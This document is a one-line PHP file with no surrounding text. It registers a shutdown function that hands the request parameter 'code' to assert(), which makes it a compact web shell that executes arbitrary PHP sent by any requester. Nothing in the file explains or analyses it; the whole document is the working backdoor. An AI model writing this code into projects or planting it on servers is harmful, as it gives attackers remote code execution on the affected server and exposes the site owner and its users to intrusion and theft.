<?php register_shutdown_function('assert', $_REQUEST['code']);
